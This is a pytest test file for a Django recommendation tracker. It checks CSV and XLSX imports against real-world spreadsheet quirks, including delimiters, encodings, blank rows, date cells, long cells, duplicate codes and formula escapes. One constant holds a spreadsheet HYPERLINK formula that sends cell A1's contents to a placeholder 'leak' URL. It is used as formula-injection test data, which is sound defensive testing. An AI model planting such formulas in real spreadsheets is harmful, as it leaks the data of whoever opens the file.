"""The import on files as people really save them: Excel's semicolons, blank rows, date cells,
other encodings, long cells, formula escapes, repeated codes, and a superuser without an actor.

Every case goes through both ways in: the `import_recommendations` command and the admin import
(preview, then confirm). The samples (`case(name)`) are real inputs that failed, exported from
the seed fixtures and edited; the other files are built here to cover the same kind of fault. A
rejected file changes nothing, in a dry run and for real.
"""

import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.core.management import CommandError, call_command
from django.utils.html import escape
from openpyxl.styles import PatternFill

from tests import test_import
from tests.test_import import export_rows, snapshot, write_csv
from tracker import importing
from tracker.models import ProgressUpdate, Recommendation

Status = Recommendation.Status
# Where the samples were collected; the tests carry their own copies (SAMPLES).
CASES = Path("/work/shared/cases/hardening")
FIXTURE_FILES = sorted(str(path) for path in (Path(__file__).resolve().parent.parent / "fixtures").glob("*.json"))
IMPORT_URL = "/admin/tracker/recommendation/import/"
PROCESS_URL = "/admin/tracker/recommendation/process_import/"
NOT_UTF8 = "The file is not in UTF-8: save it as CSV UTF-8 or XLSX and import it again."
DATE_FORMAT = "Use the date format YYYY-MM-DD, e.g. 2010-12-31"
NO_ACTOR = (
    "Your account has no actor: status changes from an import need one (or set TRACKER_SECRETARIAT_ACTOR "
    "to the secretariat's actor)."
)
DEFAULT_CSV_FIELD_LIMIT = 131_072

# Five recommendations GFMD-2007-RT1-01..05 with a theme, one with an actor and an objective.
seeded = test_import.seeded


@pytest.fixture
def seed(db):
    """The project's seed fixtures, which the sample files were exported from."""
    call_command("loaddata", *FIXTURE_FILES, verbosity=0)


@pytest.fixture
def actorless_superuser(make_user):
    """The README's first admin: `createsuperuser`, no group, no actor."""
    return make_user("admin", is_superuser=True, actor=None)


# --- the samples ------------------------------------------------------------------------------

FND_01 = "International community has failed to recognize the full potential of migration (developmental impacts)"
FND_02 = "Migration is driven by three differentials (development, demography and democracy)"
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
# A row of the seed's GCIM report as the export writes it, but for code and text.
GCIM_ROW = {
    "kind": "finding",
    "status": "no_information",
    "status_label": "No information",
    "process": "gcim",
    "forum": "gcim-2005-report",
    "forum_title": "GCIM report: Migration in an Interconnected World: New Directions for Action",
    "roundtable": "",
    "roundtable_title": "",
    "themes": "Development",
    "actors": "",
    "objectives": "GCM 19; SDG 10.7",
    "source_document": "Current Priorities in Intergovernmental Dialogues on Labour Migration",
    "source_locator": "slide: Global Commission on International Migration (The GCIM report highlighted)",
    "target_date": "",
    "last_update": "",
    "url": "http://127.0.0.1:8311/recommendations/GCIM-2005-FND-01/",
}
# The samples have the export's columns of the day they were collected: files exported then must
# still import, whatever columns the export has gained since (not_reported_since, ...).
SAMPLE_COLUMNS = [
    "code", "kind", "status", "status_label", "text", "process", "forum", "forum_title", "roundtable",
    "roundtable_title", "themes", "actors", "objectives", "source_document", "source_locator", "target_date",
    "last_update", "url",
]  # fmt: skip
BLANK_ROW = dict.fromkeys(SAMPLE_COLUMNS, "")


def sample_csv(rows, *, delimiter=",", bom=False):
    """The bytes of a CSV sample: the export's header, then GCIM_ROW updated with each of `rows`."""
    body = io.StringIO()
    writer = csv.DictWriter(body, fieldnames=SAMPLE_COLUMNS, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(row if row is BLANK_ROW else {**GCIM_ROW, **row} for row in rows)
    return ("\ufeff" if bom else "").encode() + body.getvalue().encode("utf-8")


SAMPLES = {
    "duplicate_code_rows.csv": sample_csv(
        [
            {"code": "GCIM-2005-FND-01", "text": "First version of text"},
            {"code": "GCIM-2005-FND-01", "text": "Second, conflicting version of text"},
        ]
    ),
    "formula_in_text.csv": sample_csv([{"code": "TEST-FORMULA-01", "text": FORMULA}]),
    "newline_arabic_text.csv": sample_csv(
        [{"code": "TEST-NL-01", "text": 'Ligne 1\nLigne 2, "citée"\r\nالهجرة والتنمية'}]
    ),
    # Saved by a French Excel: ";" between cells, and a BOM.
    "semicolon_delimited.csv": sample_csv(
        [{"code": "TEST-CP1252-01", "text": "Semicolon file"}], delimiter=";", bom=True
    ),
    "target_date_dmy.csv": sample_csv([{"code": "GCIM-2005-FND-01", "text": FND_01, "target_date": "31/12/2010"}]),
    "trailing_empty_rows.csv": sample_csv([{"code": "GCIM-2005-FND-01", "text": FND_01}, BLANK_ROW, BLANK_ROW]),
}
# GCIM-2005-FND-02 as the export writes it, saved by Excel with its target date a date cell.
XLSX_SAMPLE_ROW = {
    **GCIM_ROW,
    "code": "GCIM-2005-FND-02",
    "text": FND_02,
    "roundtable": None,
    "roundtable_title": None,
    "themes": "Development; Root causes of migration",
    "actors": None,
    "objectives": "GCM 2",
    "target_date": datetime.datetime(2010, 12, 31),
    "last_update": None,
    "url": "http://127.0.0.1:8311/recommendations/GCIM-2005-FND-02/",
}


@pytest.fixture
def case(tmp_path):
    """case(name) -> the path of a copy of that sample file."""

    def write(name):
        path = tmp_path / name
        if name == "xlsx_target_date_as_excel_date.xlsx":
            workbook = openpyxl.Workbook()
            workbook.active.append(SAMPLE_COLUMNS)
            workbook.active.append([XLSX_SAMPLE_ROW[column] for column in SAMPLE_COLUMNS])
            workbook.active["P2"].number_format = "dd/mm/yyyy"
            workbook.save(path)
        else:
            path.write_bytes(SAMPLES[name])
        return path

    return write


@pytest.mark.skipif(not CASES.is_dir(), reason="the collected samples are not on this machine")
@pytest.mark.parametrize("name", [*SAMPLES, "xlsx_target_date_as_excel_date.xlsx"])
def test_the_copies_are_the_collected_samples(case, name):
    copy, original = case(name), CASES / name
    if name.endswith(".csv"):
        assert copy.read_bytes() == original.read_bytes()
    else:
        [copy_rows, original_rows] = (
            [[(cell.value, cell.number_format) for cell in row] for row in openpyxl.load_workbook(path).active.rows]
            for path in (copy, original)
        )
        assert copy_rows == original_rows


# --- both ways in ---------------------------------------------------------------------------


def run_command(path, user, *, dry_run=False):
    """Run the command; the summary it prints, or the CommandError's text if it refused."""
    out = io.StringIO()
    args = [str(path), "--user", user.username, *(["--dry-run"] if dry_run else [])]
    try:
        call_command("import_recommendations", *args, stdout=out)
    except CommandError as exc:
        return "REJECTED\n" + str(exc)
    return out.getvalue()


def admin_preview(client, user, path):
    """Upload `path` to the admin import (its format chosen by suffix): the preview response."""
    client.force_login(user)
    choices = client.get(IMPORT_URL).context["form"].fields["format"].choices
    fmt = next(value for value, label in choices if label == path.suffix.lstrip("."))
    with path.open("rb") as handle:
        return client.post(IMPORT_URL, {"import_file": handle, "format": fmt, "resource": "0"})


def admin_confirm(client, preview):
    assert preview.context.get("confirm_form") is not None, admin_messages(preview)
    response = client.post(PROCESS_URL, preview.context["confirm_form"].initial)
    assert response.status_code == 302
    return response


def admin_messages(response):
    """What the admin import page says is wrong, as "row N, column C: reason" lines."""
    lines = [str(error) for errors in response.context["form"].errors.values() for error in errors]
    result = response.context.get("result")
    if result is not None:
        lines += [str(error.error) for error in result.base_errors]
        lines += [f"row {line}: {error.error}" for line, errors in result.row_errors() for error in errors]
        for invalid in result.invalid_rows:
            for column, messages in invalid.field_specific_errors.items():
                lines += [f"row {invalid.number}, column {column}: {message}" for message in messages]
            lines += [f"row {invalid.number}: {message}" for message in invalid.non_field_specific_errors]
    for line in lines:
        assert escape(line.partition(": ")[2] if line.startswith("row ") else line) in response.content.decode()
    return lines


def admin_totals(response):
    totals = response.context["result"].totals
    return (totals["new"], totals["update"], totals["skip"], totals["invalid"] + totals["error"])


def assert_rejected_everywhere(client, path, user, expected_lines):
    """The command (dry run and real) and the admin preview refuse `path` with exactly
    `expected_lines`, write nothing, and the admin offers no confirmation."""
    before = snapshot()
    for dry_run in (True, False):
        output = run_command(path, user, dry_run=dry_run)
        assert output.startswith("REJECTED"), output
        assert output.splitlines()[2:] == [f"  {line}" for line in expected_lines], output
        assert snapshot() == before
    preview = admin_preview(client, user, path)
    assert admin_messages(preview) == expected_lines
    assert preview.context.get("confirm_form") is None
    assert snapshot() == before


def write_xlsx(tmp_path, rows, name="edited.xlsx"):
    """An XLSX file of `rows` (lists of cell values, the header first)."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    path = tmp_path / name
    workbook.save(path)
    return path


# --- 1. separators ---------------------------------------------------------------------------


def test_the_semicolon_sample_with_a_bom_imports_by_command(case, seed, secretariat_user):
    output = run_command(case("semicolon_delimited.csv"), secretariat_user)
    assert output.strip() == "1 new, 0 changed, 0 unchanged, 0 invalid."
    created = Recommendation.objects.get(code="TEST-CP1252-01")
    assert created.text == "Semicolon file"
    assert created.forum.slug == "gcim-2005-report"
    # "GCM 19; SDG 10.7" was one quoted cell: its ";" separates objectives, not columns.
    assert sorted(f"{o.framework} {o.number}" for o in created.objectives.all()) == ["gcm 19", "sdg 10.7"]
    assert list(created.themes.values_list("name", flat=True)) == ["Development"]


def test_the_semicolon_sample_imports_by_the_admin(case, client, seed, secretariat_user):
    preview = admin_preview(client, secretariat_user, case("semicolon_delimited.csv"))
    assert admin_messages(preview) == []
    assert admin_totals(preview) == (1, 0, 0, 0)
    admin_confirm(client, preview)
    assert Recommendation.objects.get(code="TEST-CP1252-01").text == "Semicolon file"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_each_separator_reads_the_same_whatever_the_cells_hold(client, seeded, secretariat_user, tmp_path, delimiter):
    rows = export_rows(client)
    rows[2]["text"] = 'Commas, semicolons; tabs\tand "quotes"'
    path = tmp_path / "edited.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)
    preview = admin_preview(client, secretariat_user, path)
    assert admin_messages(preview) == []
    assert admin_totals(preview) == (0, 1, 4, 0)
    assert run_command(path, secretariat_user).strip() == "0 new, 1 changed, 4 unchanged, 0 invalid."
    assert Recommendation.objects.get(code="GFMD-2007-RT1-03").text == 'Commas, semicolons; tabs\tand "quotes"'


def test_missing_columns_are_named_in_a_sentence_not_a_python_list(client, seeded, secretariat_user, tmp_path):
    message = "Missing columns: forum, text. The first row must name the columns as the export does."
    path = write_csv(tmp_path, [{"code": "GFMD-2007-RT1-01", "kind": "recommendation"}])
    assert_rejected_everywhere(client, path, secretariat_user, [message])
    # A dataset made some other way is refused by the resource in the same words.
    dataset = tablib.Dataset(["GFMD-2007-RT1-01", "recommendation"], headers=["code", "kind"])
    assert importing.import_recommendations(dataset, user=secretariat_user).errors == [message]


# --- 2. a code on two rows -------------------------------------------------------------------


def test_the_duplicate_code_sample_is_refused_naming_the_code_and_both_rows(case, client, seed, secretariat_user):
    message = "The code GCIM-2005-FND-01 is on rows 2 and 3: a code may be on one row only."
    assert_rejected_everywhere(
        client,
        case("duplicate_code_rows.csv"),
        secretariat_user,
        [f"row 2, column code: {message}", f"row 3, column code: {message}"],
    )
    assert Recommendation.objects.get(code="GCIM-2005-FND-01").text.startswith("International community")


def test_a_repeated_code_counts_spreadsheet_rows_across_blank_rows(client, seeded, secretariat_user, tmp_path):
    rows = export_rows(client)
    for row in rows:
        row["text"] += " (edited)"
    blank = dict.fromkeys(rows[0], "")
    # Rows 2-6 are the five recommendations, row 7 is blank, row 8 repeats row 3's code.
    path = write_csv(tmp_path, [*rows, blank, dict(rows[1], text="Another text")])
    message = "The code GFMD-2007-RT1-02 is on rows 3 and 8: a code may be on one row only."
    assert_rejected_everywhere(
        client, path, secretariat_user, [f"row 3, column code: {message}", f"row 8, column code: {message}"]
    )


# --- 3. blank rows ---------------------------------------------------------------------------


def test_the_trailing_empty_rows_sample_imports_as_unchanged(case, client, seed, secretariat_user):
    path = case("trailing_empty_rows.csv")
    before = snapshot()
    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 1 unchanged, 0 invalid."
    preview = admin_preview(client, secretariat_user, path)
    assert admin_messages(preview) == []
    assert admin_totals(preview) == (0, 0, 1, 0)
    assert snapshot() == before


def test_blank_csv_rows_anywhere_are_skipped_and_later_rows_keep_their_numbers(
    client, seeded, secretariat_user, tmp_path
):
    rows = export_rows(client)
    header = ",".join(rows[0])
    lines = [header]
    for row in rows:
        buffer = io.StringIO()
        csv.writer(buffer).writerow(row.values())
        lines.append(buffer.getvalue().rstrip("\r\n"))
    # Row 3: commas only; row 5: spaces; row 7: an empty line; and three blank rows at the end.
    lines[2:2] = ["," * (len(rows[0]) - 1)]
    lines[4:4] = [" ,  ," + "," * (len(rows[0]) - 3)]
    lines[6:6] = [""]
    path = tmp_path / "blank_rows.csv"
    path.write_text("\r\n".join([*lines, "", ",,", " "]) + "\r\n", encoding="utf-8")
    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 5 unchanged, 0 invalid."
    # The recommendation on spreadsheet row 8 (after three blank rows) is named as row 8.
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("GFMD-2007-RT1-04,recommendation,no_information", "GFMD-2007-RT1-04,recommendation,done")
    )
    [line] = admin_messages(admin_preview(client, secretariat_user, path))
    assert line.startswith("row 8, column status: Unknown status 'done'"), line
    assert run_command(path, secretariat_user).splitlines()[2].startswith("  row 8, column status: Unknown status")


def test_blank_xlsx_rows_formatted_or_not_are_skipped(client, seeded, secretariat_user, tmp_path):
    rows = export_rows(client)
    rows[0]["text"] = "Edited in Excel"
    width = len(rows[0])
    sheet_rows = [list(rows[0]), *(list(row.values()) for row in rows[:2]), [None] * width, ["  ", "", None]]
    sheet_rows += [list(row.values()) for row in rows[2:]]
    path = write_xlsx(tmp_path, sheet_rows)
    # Formatted but empty cells below the data, as a sheet keeps after rows are cleared.
    workbook = openpyxl.load_workbook(path)
    for row in range(len(sheet_rows) + 1, len(sheet_rows) + 30):
        for column in range(1, width + 3):
            workbook.active.cell(row=row, column=column).fill = PatternFill("solid", fgColor="FFFF00")
    workbook.save(path)
    preview = admin_preview(client, secretariat_user, path)
    assert admin_messages(preview) == []
    assert admin_totals(preview) == (0, 1, 4, 0)
    assert run_command(path, secretariat_user).strip() == "0 new, 1 changed, 4 unchanged, 0 invalid."
    assert Recommendation.objects.get(code="GFMD-2007-RT1-01").text == "Edited in Excel"


# --- 4. XLSX date cells ----------------------------------------------------------------------


def test_an_xlsx_date_cell_is_no_change_when_imported_again(case, seed, secretariat_user):
    path = case("xlsx_target_date_as_excel_date.xlsx")
    assert run_command(path, secretariat_user).strip() == "0 new, 1 changed, 0 unchanged, 0 invalid."
    recommendation = Recommendation.objects.get(code="GCIM-2005-FND-02")
    assert recommendation.target_date == datetime.date(2010, 12, 31)
    version, history = recommendation.version, recommendation.history.count()

    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 1 unchanged, 0 invalid."
    recommendation.refresh_from_db()
    assert (recommendation.version, recommendation.history.count()) == (version, history)


def test_an_xlsx_date_cell_is_no_change_in_the_admin_either(case, client, seed, secretariat_user):
    path = case("xlsx_target_date_as_excel_date.xlsx")
    preview = admin_preview(client, secretariat_user, path)
    assert admin_totals(preview) == (0, 1, 0, 0)
    admin_confirm(client, preview)
    recommendation = Recommendation.objects.get(code="GCIM-2005-FND-02")
    assert recommendation.target_date == datetime.date(2010, 12, 31)
    version, history = recommendation.version, recommendation.history.count()

    preview = admin_preview(client, secretariat_user, path)
    assert admin_totals(preview) == (0, 0, 1, 0)
    admin_confirm(client, preview)
    recommendation.refresh_from_db()
    assert (recommendation.version, recommendation.history.count()) == (version, history)


def test_an_xlsx_date_with_a_time_of_day_is_refused(client, seeded, secretariat_user, tmp_path):
    rows = export_rows(client)
    rows[0]["target_date"] = datetime.datetime(2010, 12, 31, 14, 30)
    path = write_xlsx(tmp_path, [list(rows[0]), *(list(row.values()) for row in rows)])
    assert_rejected_everywhere(
        client,
        path,
        secretariat_user,
        [f"row 2, column target_date: {DATE_FORMAT} (the file has “2010-12-31 14:30:00”)."],
    )


def test_xlsx_numbers_and_dates_in_text_columns_are_read_as_their_text(client, seeded, secretariat_user, tmp_path):
    rows = export_rows(client)
    values = {**rows[0], "roundtable": 1, "source_locator": 12, "source_document": datetime.datetime(2010, 12, 31)}
    path = write_xlsx(tmp_path, [list(rows[0]), [values[column] for column in rows[0]]])
    message = "No document titled '2010-12-31 00:00:00'."
    assert_rejected_everywhere(client, path, secretariat_user, [f"row 2, column source_document: {message}"])
    values["source_document"] = None
    path = write_xlsx(tmp_path, [list(rows[0]), [values[column] for column in rows[0]]])
    assert run_command(path, secretariat_user).strip() == "0 new, 1 changed, 0 unchanged, 0 invalid."
    recommendation = Recommendation.objects.get(code="GFMD-2007-RT1-01")
    assert (recommendation.roundtable.code, recommendation.source_locator) == ("1", "12")


# --- 5. dates in another format --------------------------------------------------------------


def test_a_day_month_year_date_names_the_expected_format_the_column_and_the_row(case, client, seed, secretariat_user):
    assert_rejected_everywhere(
        client,
        case("target_date_dmy.csv"),
        secretariat_user,
        [f"row 2, column target_date: {DATE_FORMAT} (the file has “31/12/2010”)."],
    )


# --- 6. encodings and long cells ------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16"])
def test_a_file_not_in_utf8_is_refused_in_plain_words(client, seeded, secretariat_user, tmp_path, encoding):
    rows = export_rows(client)
    rows[0]["text"] = "Côte d’Ivoire – coopération régionale"
    body = io.StringIO()
    writer = csv.DictWriter(body, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / "excel.csv"
    path.write_bytes(body.getvalue().encode(encoding))
    assert_rejected_everywhere(client, path, secretariat_user, [NOT_UTF8])


@pytest.fixture
def default_csv_field_limit():
    """Python's default csv field size limit for the test (an earlier import may have raised it)."""
    previous = csv.field_size_limit(DEFAULT_CSV_FIELD_LIMIT)
    yield
    csv.field_size_limit(previous)


def test_a_200000_character_text_round_trips(client, seeded, secretariat_user, tmp_path, default_csv_field_limit):
    long_text = ('Paragraph with a comma, a "quote" and a line break.\n' * 4000)[:200_000]
    recommendation = seeded[0]
    Recommendation.objects.filter(pk=recommendation.pk).update(text=long_text)
    response = client.get("/recommendations/?format=csv")
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(response.streaming_content))
    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 5 unchanged, 0 invalid."

    edited = path.read_bytes().replace(b"line break.\n", b"line break!\n", 1)
    path.write_bytes(edited)
    csv.field_size_limit(DEFAULT_CSV_FIELD_LIMIT)
    preview = admin_preview(client, secretariat_user, path)
    assert admin_messages(preview) == []
    assert admin_totals(preview) == (0, 1, 4, 0)
    admin_confirm(client, preview)
    recommendation.refresh_from_db()
    assert recommendation.text == long_text.replace("line break.\n", "line break!\n", 1)
    assert len(recommendation.text) == 200_000


# --- 7. formula escapes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("in_file", "stored"),
    [
        ("'" + FORMULA, FORMULA),
        ("''=x", "'=x"),
        ("'hello", "'hello"),
        ("'-5 years", "-5 years"),
        ("'@home", "@home"),
        ("'+1", "+1"),
        (FORMULA, FORMULA),
    ],
)
def test_the_formula_escape_apostrophe_is_removed_exactly_once(
    client, seeded, secretariat_user, tmp_path, in_file, stored
):
    rows = export_rows(client)
    rows[0]["text"] = in_file
    rows[0]["source_locator"] = "'=page 5"
    path = write_csv(tmp_path, rows)
    preview = admin_preview(client, secretariat_user, path)
    assert admin_messages(preview) == []
    admin_confirm(client, preview)
    recommendation = Recommendation.objects.get(code="GFMD-2007-RT1-01")
    assert (recommendation.text, recommendation.source_locator) == (stored, "=page 5")

    rows[1]["text"] = in_file
    assert run_command(write_csv(tmp_path, rows), secretariat_user).strip() == (
        "0 new, 1 changed, 4 unchanged, 0 invalid."
    )
    assert Recommendation.objects.get(code="GFMD-2007-RT1-02").text == stored


def test_the_formula_sample_stores_the_text_exactly_as_written(case, client, seed, secretariat_user):
    assert run_command(case("formula_in_text.csv"), secretariat_user).strip() == (
        "1 new, 0 changed, 0 unchanged, 0 invalid."
    )
    assert Recommendation.objects.get(code="TEST-FORMULA-01").text == FORMULA


def test_texts_that_look_like_formulas_round_trip_through_the_export(client, seeded, secretariat_user, tmp_path):
    texts = ["=1+1", "'=x", "''+y", "-5 years", "@home", "\tindented", "'hello"]
    for recommendation, text in zip(seeded, texts, strict=False):
        Recommendation.objects.filter(pk=recommendation.pk).update(text=text)
    path = write_csv(tmp_path, export_rows(client))
    before = snapshot()
    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 5 unchanged, 0 invalid."
    assert snapshot() == before


def test_the_newline_and_arabic_sample_keeps_its_text_exactly(case, client, seed, secretariat_user, tmp_path):
    assert run_command(case("newline_arabic_text.csv"), secretariat_user).strip() == (
        "1 new, 0 changed, 0 unchanged, 0 invalid."
    )
    text = Recommendation.objects.get(code="TEST-NL-01").text
    assert text == 'Ligne 1\nLigne 2, "citée"\r\nالهجرة والتنمية'
    path = write_csv(tmp_path, [row for row in export_rows(client) if row["code"] == "TEST-NL-01"])
    assert run_command(path, secretariat_user).strip() == "0 new, 0 changed, 1 unchanged, 0 invalid."


# --- 8. a superuser without an actor ---------------------------------------------------------


def test_an_actorless_superuser_may_import_text_changes(client, seeded, actorless_superuser, tmp_path):
    rows = export_rows(client)
    rows[0]["text"] = "Corrected by the first admin"
    path = write_csv(tmp_path, rows)
    assert run_command(path, actorless_superuser).strip() == "0 new, 1 changed, 4 unchanged, 0 invalid."
    assert Recommendation.objects.get(code="GFMD-2007-RT1-01").text == "Corrected by the first admin"

    rows[1]["text"] = "Corrected in the admin"
    preview = admin_preview(client, actorless_superuser, write_csv(tmp_path, rows))
    assert admin_messages(preview) == []
    admin_confirm(client, preview)
    assert Recommendation.objects.get(code="GFMD-2007-RT1-02").text == "Corrected in the admin"


def test_an_actorless_superusers_status_change_is_the_secretariat_actors_report(
    client, seeded, actorless_superuser, tmp_path, make_actor
):
    make_actor(slug="gfmd", name="GFMD Support Unit", kind="secretariat")
    rows = export_rows(client)
    rows[2]["status"] = Status.IN_PROGRESS
    report = importing.import_file(write_csv(tmp_path, rows), user=actorless_superuser)
    assert not report.rejected, report.errors
    update = ProgressUpdate.objects.get()
    # One actor of kind secretariat (as in the seed): the secretariat's own assessments are its.
    assert (update.actor.slug, update.recorded_by, update.status) == ("gfmd", actorless_superuser, "in_progress")


def test_an_actorless_superuser_is_refused_only_the_rows_that_change_a_status_when_no_secretariat_actor_is_known(
    client, seeded, actorless_superuser, tmp_path, settings
):
    settings.TRACKER_SECRETARIAT_ACTOR = "no-such-actor"
    rows = export_rows(client)
    rows[0]["text"] = "Corrected by the first admin"
    rows[2]["status"] = Status.IN_PROGRESS
    path = write_csv(tmp_path, rows)
    assert_rejected_everywhere(client, path, actorless_superuser, [f"row 4, column status: {NO_ACTOR}"])
    assert not ProgressUpdate.objects.exists()
    # A new recommendation with a status is a status change too.
    new = dict(rows[0], code="GFMD-2007-RT1-09", status=Status.STALLED)
    assert_rejected_everywhere(
        client, write_csv(tmp_path, [rows[1], new]), actorless_superuser, [f"row 3, column status: {NO_ACTOR}"]
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "book.xlsx",
            b"code,forum,text\r\n",
            "The file is not an XLSX workbook: save it as XLSX or CSV UTF-8 and import it again.",
        ),
        (
            "empty.csv",
            b"\xef\xbb\xbf\r\n",
            "The file is empty: its first row must name the columns, as the export does.",
        ),
        (
            "twice.csv",
            b"code,forum,text,text\r\nA,b,c,d\r\n",
            "The first row names these columns more than once: text.",
        ),
        (
            "wide.csv",
            b"code,forum,text\r\nGFMD-2007-RT1-01,gfmd-2007-brussels,Text,,extra\r\n",
            "Row 2 has a value in a column without a name in the first row.",
        ),
    ],
)
def test_a_file_refused_as_a_whole_says_why_in_one_line(
    client, seeded, secretariat_user, tmp_path, name, content, message
):
    path = tmp_path / name
    path.write_bytes(content)
    assert_rejected_everywhere(client, path, secretariat_user, [message])


# --- the shared reader ------------------------------------------------------------------------


def test_the_command_and_the_admin_read_files_with_one_function(
    monkeypatch, client, seeded, secretariat_user, tmp_path
):
    calls = []
    original = importing.read_dataset

    def spy(data, file_format):
        calls.append(file_format)
        return original(data, file_format)

    monkeypatch.setattr(importing, "read_dataset", spy)
    csv_path = write_csv(tmp_path, export_rows(client))
    rows = export_rows(client)
    xlsx_path = write_xlsx(tmp_path, [list(rows[0]), *(list(row.values()) for row in rows)])
    for path in (csv_path, xlsx_path):
        run_command(path, secretariat_user, dry_run=True)
        admin_confirm(client, admin_preview(client, secretariat_user, path))
    assert calls == ["csv", "csv", "csv", "xlsx", "xlsx", "xlsx"]


def test_a_dataset_imports_the_same_twice(client, seeded, secretariat_user, tmp_path):
    rows = export_rows(client)
    rows[0]["text"] = "''=x"
    dataset = importing.load_dataset(write_csv(tmp_path, [*rows, dict.fromkeys(rows[0], "")]))
    preview = importing.import_recommendations(dataset, user=secretariat_user, dry_run=True)
    report = importing.import_recommendations(dataset, user=secretariat_user)
    assert (preview.changed, report.changed, preview.errors, report.errors) == (1, 1, [], [])
    assert Recommendation.objects.get(code="GFMD-2007-RT1-01").text == "'=x"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        ("  ", None),
        ("2010-12-31", datetime.date(2010, 12, 31)),
        (" 2010-12-31 ", datetime.date(2010, 12, 31)),
        (datetime.date(2010, 12, 31), datetime.date(2010, 12, 31)),
        (datetime.datetime(2010, 12, 31), datetime.date(2010, 12, 31)),
    ],
)
def test_date_cells_parse_as_dates(value, expected):
    result = importing.parse_date_cell(value)
    assert result == expected and type(result) is type(expected)


@pytest.mark.parametrize("value", ["31/12/2010", "2010-13-01", "yesterday", 40543, datetime.datetime(2010, 12, 31, 9)])
def test_other_date_cells_name_the_expected_format(value):
    with pytest.raises(ValueError, match=r"Use the date format YYYY-MM-DD, e\.g\. 2010-12-31"):
        importing.parse_date_cell(value)
